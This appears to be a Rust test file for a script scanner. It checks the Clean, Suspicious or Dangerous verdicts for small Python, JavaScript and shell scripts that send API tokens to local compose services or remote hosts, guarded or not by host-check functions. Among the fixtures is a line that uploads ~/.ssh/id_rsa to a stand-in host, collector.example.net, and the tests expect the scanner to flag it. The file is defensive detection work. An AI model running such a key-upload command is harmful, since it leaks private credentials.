//! Rows of session 56's project-settings precision rules (issue 17): a token of no vendor sent
//! to a compose service's one-label name, a URL refused by the script's own host-check
//! function before the token goes there. Each with the twins that stay flagged.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::Language::{JavaScript, Python, Shell};
use terraphim_script_review::Verdict::{Clean, Dangerous, Suspicious};

/// A name of one label (`http://jellyfin:8096`, a compose service) is answered by the local
/// resolver, as `localhost` and a `.internal` name are: a token of no vendor sent there is the
/// project's own server's. Twins: a dotted name nobody answers for stays dangerous, a vendor's
/// token sent there is no use of it, a private key sent there is still sent away from its
/// store, and a name written as one number (an IPv4 address) is no name.
#[test]
fn a_one_label_host_is_the_local_network() {
    let py = |url: &str, token: &str| {
        format!(
            "import os\nimport requests\nkey = os.environ[\"{token}\"]\nr = requests.get(\"{url}/System/Info\", headers={{\"X-Emby-Token\": key}}, timeout=10)\nprint(r.status_code)\n"
        )
    };
    let js = |url: &str| {
        format!(
            "const base = process.env.MEDIA_URL ?? \"{url}\";\nconst key = process.env.MEDIA_API_KEY;\nconst res = await fetch(`${{base}}/System/Info`, {{ headers: {{ \"X-Emby-Token\": key }} }});\nconsole.log(res.status);\n"
        )
    };
    crate::verdict(Python, &py("http://jellyfin:8096", "MEDIA_API_KEY"), Clean);
    crate::verdict(Python, &py("http://media-db:8096", "MEDIA_API_KEY"), Clean);
    crate::verdict(JavaScript, &js("http://jellyfin:8096"), Clean);
    let sh = |url: &str| {
        format!(
            "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsS -H \"X-Emby-Token: ${{MEDIA_API_KEY}}\" \"{url}/System/Info\"\n"
        )
    };
    crate::verdict(Shell, &sh("http://jellyfin:8096"), Clean);
    crate::verdict(Shell, &sh("http://jellyfin.example.net:8096"), Dangerous);
    // Twins.
    crate::verdict(
        Python,
        &py("http://jellyfin.example.net:8096", "MEDIA_API_KEY"),
        Dangerous,
    );
    crate::verdict(
        JavaScript,
        &js("http://jellyfin.example.net:8096"),
        Dangerous,
    );
    crate::verdict(Python, &py("http://2130706433", "MEDIA_API_KEY"), Dangerous);
    crate::verdict(
        Python,
        &py("http://jellyfin:8096", "GITHUB_TOKEN"),
        Suspicious,
    );
    let key = "import requests\nfrom pathlib import Path\nrequests.post(\"http://collector:8080/upload\", data=Path.home().joinpath(\".ssh/id_rsa\").read_bytes(), timeout=10)\n";
    crate::verdict(Python, key, Suspicious);
    let key = key.replace("http://collector:8080", "https://collector.example.net");
    crate::verdict(Python, &key, Dangerous);
}

/// The 0059 shape: a host check whose list names a compose service beside `localhost`; a
/// list naming a dotted host nobody answers for keeps the request dangerous.
#[test]
fn a_checked_list_naming_a_compose_service_is_local() {
    let js = |hosts: &str| {
        format!(
            "const e = process.env;\nconst base = (e.MEDIA_URL ?? \"http://localhost:8096\").replace(/\\/+$/, \"\");\nconst host = new URL(base).hostname;\nif (![{hosts}].includes(host) && !host.endsWith(\".internal\")) {{\n  throw new Error(`${{base}} is not the local test server`);\n}}\nconst res = await fetch(base + \"/System/Info\", {{ headers: {{ Authorization: `Token=\"${{e.MEDIA_API_KEY}}\"` }} }});\nconsole.log(res.status);\n"
        )
    };
    crate::verdict(
        JavaScript,
        &js("\"localhost\", \"127.0.0.1\", \"jellyfin\""),
        Clean,
    );
    crate::verdict(
        JavaScript,
        &js("\"localhost\", \"127.0.0.1\", \"jellyfin.example.net\""),
        Dangerous,
    );
}

/// A function of the script that refuses the URL it is given unless its host is local or in
/// the network's own zone (`def check_host(url): ... raise SystemExit`), called as a statement
/// before the request: past the call the URL points at those hosts, as past the check written
/// in place. Twins: a check that only prints, of another variable, a list naming a host nobody
/// answers for, a check inside a branch of the function, a call after the request.
#[test]
fn a_host_check_function_confines_the_url_it_is_given() {
    let check = "def check_host(url):\n    host = urlparse(url).hostname or \"\"\n    if host not in (\"localhost\", \"127.0.0.1\") and not host.endswith(\".internal\"):\n        raise SystemExit(f\"refusing {host}\")\n";
    let py = |check: &str, call: &str, after: bool| {
        let send = "resp = requests.get(base + \"/api/v4/users\", headers={\"Authorization\": f\"Bearer {token}\"}, timeout=10)\nprint(resp.status_code)\n";
        let (before, later) = if after { ("", call) } else { (call, "") };
        format!(
            "import os\nimport requests\nfrom urllib.parse import urlparse\n\n\n{check}\n\nbase = os.environ[\"CHAT_BASE\"]\nother = os.environ[\"OTHER_BASE\"]\ntoken = os.environ[\"CHAT_TOKEN\"]\n{before}\n{send}{later}\n"
        )
    };
    crate::verdict(Python, &py(check, "check_host(base)", false), Clean);
    let plain = "def check_host(host):\n    if host != \"localhost\" and not host.endswith(\".internal\"):\n        raise SystemExit(f\"refusing {host}\")\n";
    let by_host = py(plain, "check_host(base)", false).replace(
        "base + \"/api/v4/users\"",
        "f\"https://{base}/api/v4/users\"",
    );
    crate::verdict(Python, &by_host, Clean);
    // Twins.
    let logs = check.replace("raise SystemExit", "print");
    crate::verdict(Python, &py(&logs, "check_host(base)", false), Dangerous);
    crate::verdict(Python, &py(check, "check_host(other)", false), Dangerous);
    let listed = check.replace("\"127.0.0.1\")", "\"collect.example.net\")");
    crate::verdict(Python, &py(&listed, "check_host(base)", false), Dangerous);
    let branch = "def check_host(url, strict):\n    host = urlparse(url).hostname or \"\"\n    if strict:\n        if host not in (\"localhost\", \"127.0.0.1\") and not host.endswith(\".internal\"):\n            raise SystemExit(f\"refusing {host}\")\n";
    crate::verdict(
        Python,
        &py(branch, "check_host(base, False)", false),
        Dangerous,
    );
    crate::verdict(Python, &py(check, "check_host(base)", true), Dangerous);
    // A check that returns leaves the function, and the caller goes on with any URL.
    let returns = check.replace("raise SystemExit(f\"refusing {host}\")", "return");
    crate::verdict(Python, &py(&returns, "check_host(base)", false), Dangerous);
}

/// The same in JavaScript: `function assertLocal(url)` (or an arrow function given to a
/// constant) whose body throws unless the URL's host is local, called as a statement (awaited
/// or not) before the request. Twins: a check that only logs, of another variable, a list
/// naming a host nobody answers for, a check inside a branch, a call after the request.
#[test]
fn a_js_host_check_function_confines_the_url_it_is_given() {
    let check = "function assertLocal(url) {\n  const hostname = new URL(url).hostname;\n  if (![\"localhost\", \"127.0.0.1\"].includes(hostname) && !hostname.endsWith(\".internal\")) {\n    throw new Error(`refusing ${hostname}`);\n  }\n}\n";
    let js = |check: &str, call: &str, after: bool| {
        let send = "const res = await fetch(`${base}/api/v4/users`, { headers: { Authorization: `Bearer ${token}` } });\nconsole.log(res.status);\n";
        let (before, later) = if after { ("", call) } else { (call, "") };
        format!(
            "{check}\nconst base = process.env.CHAT_BASE;\nconst other = process.env.OTHER_BASE;\nconst token = process.env.CHAT_TOKEN;\n{before}\n{send}{later}\n"
        )
    };
    crate::verdict(JavaScript, &js(check, "assertLocal(base);", false), Clean);
    let arrow = check
        .replace(
            "function assertLocal(url) {",
            "const assertLocal = async (url) => {",
        )
        .replace("  }\n}\n", "  }\n};\n");
    crate::verdict(
        JavaScript,
        &js(&arrow, "await assertLocal(base);", false),
        Clean,
    );
    // Twins.
    let logs = check.replace("throw new Error", "console.warn");
    crate::verdict(
        JavaScript,
        &js(&logs, "assertLocal(base);", false),
        Dangerous,
    );
    crate::verdict(
        JavaScript,
        &js(check, "assertLocal(other);", false),
        Dangerous,
    );
    let listed = check.replace("\"127.0.0.1\"]", "\"collect.example.net\"]");
    crate::verdict(
        JavaScript,
        &js(&listed, "assertLocal(base);", false),
        Dangerous,
    );
    let branch = "function assertLocal(url, strict) {\n  const hostname = new URL(url).hostname;\n  if (strict) {\n    if (![\"localhost\", \"127.0.0.1\"].includes(hostname)) {\n      throw new Error(`refusing ${hostname}`);\n    }\n  }\n}\n";
    crate::verdict(
        JavaScript,
        &js(branch, "assertLocal(base, false);", false),
        Dangerous,
    );
    crate::verdict(
        JavaScript,
        &js(check, "assertLocal(base);", true),
        Dangerous,
    );
    // A check that returns leaves the function, and the caller goes on with any URL.
    let returns = check.replace("throw new Error(`refusing ${hostname}`);", "return;");
    crate::verdict(
        JavaScript,
        &js(&returns, "assertLocal(base);", false),
        Dangerous,
    );
}
